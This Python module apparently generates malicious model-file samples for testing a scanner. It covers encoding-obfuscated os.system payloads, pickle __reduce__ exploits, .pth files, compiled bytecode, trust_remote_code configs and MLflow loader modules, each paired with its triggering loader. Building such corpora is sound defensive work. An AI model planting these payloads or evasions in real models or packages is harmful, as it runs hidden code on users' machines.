"""Python that a model brings along, in encodings and places of its own."""
import io
import json
import marshal
import importlib.util
import tarfile
import zipfile

from ..registry import Attack, PYTHON, SHELL, kind

LOAD = f'import os\nos.system(\'{SHELL}\')\n'
ENCODED = {
    'utf-7': ('# coding: utf-7\n' + 'import os\nos.system(' + repr(SHELL) + ')\n').encode('ascii').replace(b'os', b'+AG8Acw-'),
    'unicode_escape': b'# coding: unicode_escape\n' + ''.join('\\x%02x' % ord(c) for c in LOAD).encode(),
    'raw_unicode_escape': b'# coding: raw_unicode_escape\n' + LOAD.replace('os', '\\u006f\\u0073').encode(),
    'hidden-line': b'# coding: unicode_escape\n# words \\n' + LOAD.replace('\n', '\\n').encode(),
    'utf16-cookie': b'# -*- coding: utf_7 -*-\nx = 1 # +AAo-import os+AAo-os.system(' + repr(SHELL).encode() + b')\n',
    'latin': b'# coding: latin-1\n' + LOAD.encode(),
    'fullwidth': 'import os\nos.ｓｙｓｔｅｍ('.encode() + repr(SHELL).encode() + b')\n',
    'continued': b'import o\\\ns\n'.replace(b'o\\\ns', b'\\\nos') + b'os.\\\nsystem(' + repr(SHELL).encode() + b')\n',
    'formfeed': b'\x0cimport os\ros.system(' + repr(SHELL).encode() + b')\r',
    'late': b'x = 1\n' * 400_000 + LOAD.encode(),
}


def zipped(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w') as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


@kind('source: handlers of archives in other encodings')
def handlers():
    manifest = json.dumps({'model': {'handler': 'handler.py', 'modelName': 'm'}}).encode()
    for source in ENCODED.values():
        yield Attack('m.mar', zipped([('MAR-INF/MANIFEST.json', manifest), ('handler.py', source)]),
                     loader='import zipfile, tempfile, sys\nd = tempfile.mkdtemp(); zipfile.ZipFile(path).extractall(d); sys.path.insert(0, d); import handler')
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode='w:gz') as tar:
            info = tarfile.TarInfo('code/inference.py')
            info.size = len(source)
            tar.addfile(info, io.BytesIO(source))
        yield Attack('model.tar.gz', buffer.getvalue(), loader='import tarfile, tempfile, sys\nd = tempfile.mkdtemp(); tarfile.open(path).extractall(d, filter="data"); sys.path.insert(0, d + "/code"); import inference')


@kind('source: code that a configuration names')
def remote():
    config = {'model_type': 'x', 'auto_map': {'AutoConfig': 'configuration_x.C'}}
    load = 'import transformers\ntransformers.AutoConfig.from_pretrained(path, trust_remote_code=True)'
    for name, source in (('plain', LOAD.encode()), *ENCODED.items()):
        for encode in (lambda text: text.encode(), lambda text: text.replace('auto_map', 'auto\\u005fmap').encode(), lambda text: (' ' * 9000 + text).encode()):
            yield Attack('m', {'m/config.json': encode(json.dumps(config)), 'm/configuration_x.py': source}, loader=load, entry='m')
            if name != 'plain':
                break
    for file in ('tokenizer_config.json', 'processor_config.json', 'preprocessor_config.json', 'video_preprocessor_config.json', 'feature_extractor_config.json'):
        yield Attack('m', {'m/config.json': b'{"model_type": "bert"}', f'm/{file}': json.dumps({'auto_map': {'AutoTokenizer': ['t.T', None], 'AutoProcessor': 't.T', 'AutoImageProcessor': 't.T', 'AutoVideoProcessor': 't.T', 'AutoFeatureExtractor': 't.T'},
                     'tokenizer_class': 'T', 'processor_class': 'T', 'image_processor_type': 'T', 'video_processor_type': 'T', 'feature_extractor_type': 'T'}).encode(), 'm/t.py': LOAD.encode()},
                     loader=f'import transformers\ntransformers.{dict(t="AutoTokenizer", p="AutoProcessor", v="AutoVideoProcessor", f="AutoFeatureExtractor")[file[0]] if file != "preprocessor_config.json" else "AutoImageProcessor"}.from_pretrained(path, trust_remote_code=True)', entry='m')


@kind('source: compiled modules')
def compiled():
    code = compile(LOAD, 'm', 'exec')
    for header in (importlib.util.MAGIC_NUMBER + b'\0' * 12, importlib.util.MAGIC_NUMBER + b'\1\0\0\0' + b'\0' * 8):
        data = header + marshal.dumps(code)
        yield Attack('m.pyc', data, loader='import importlib.util as u\ns = u.spec_from_file_location("m", path); m = u.module_from_spec(s); s.loader.exec_module(m)')
        yield Attack('m.zip', zipped([('m.pyc', data)]), loader='import sys\nsys.path.insert(0, path); import m')
        yield Attack('x.bin', data, loader='import marshal\nexec(marshal.loads(open(path, "rb").read()[16:]))')
    for version in range(5):
        yield Attack('code.bin', marshal.dumps(code, version), loader='import marshal\nexec(marshal.loads(open(path, "rb").read()))')
    yield Attack('x.pth', b'\xef\xbb\xbfimport os; os.system(' + repr(SHELL).encode() + b')\n', loader='import site, os\nsite.addsitedir(os.path.dirname(path))')
    yield Attack('x.pth', b'import os; os.system(' + repr(SHELL).encode() + b')\n', loader='import site, os\nsite.addsitedir(os.path.dirname(path))')
    yield Attack('x.pth', b'# x\n' * 2000 + b'import\tos; os.system(' + repr(SHELL).encode() + b')\n', loader='import site, os\nsite.addsitedir(os.path.dirname(path))')


@kind('source: what MLflow loads')
def mlflow():
    for body in (
        f'flavors:\n  python_function:\n    loader_module: m\n    code: code\n    python_version: 3.11\n',
        f'flavors: {{python_function: {{loader_module: m, code: code}}}}\n',
        f'"flavors":\n  "python_function":\n    "loader\\x5fmodule": m\n    code: code\n',
        f'flavors:\n  ? python_function\n  : loader_module: &a m\n    code: code\n',
    ):
        yield Attack('m', {'m/MLmodel': body.encode(), 'm/code/m.py': (LOAD + 'def _load_pyfunc(path):\n    return 1\n').encode()}, loader='import mlflow.pyfunc\nmlflow.pyfunc.load_model(path)', entry='m')
    for flavor, name in (('sklearn', 'model.pkl'), ('sklearn', 'model.dat'), ('sklearn', 'weights')):
        import pickle

        class Runs:
            def __reduce__(self):
                import os
                return os.system, (SHELL,)
        yield Attack('m', {'m/MLmodel': f'flavors:\n  sklearn:\n    pickled_model: {name}\n    serialization_format: pickle\n    sklearn_version: 1.0\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: {name}\n    predict_fn: predict\n'.encode(),
                     f'm/{name}': pickle.dumps(Runs())}, loader='import mlflow.pyfunc, os\nos.environ["MLFLOW_ALLOW_PICKLE_DESERIALIZATION"]="true"\nmlflow.pyfunc.load_model(path)', entry='m')
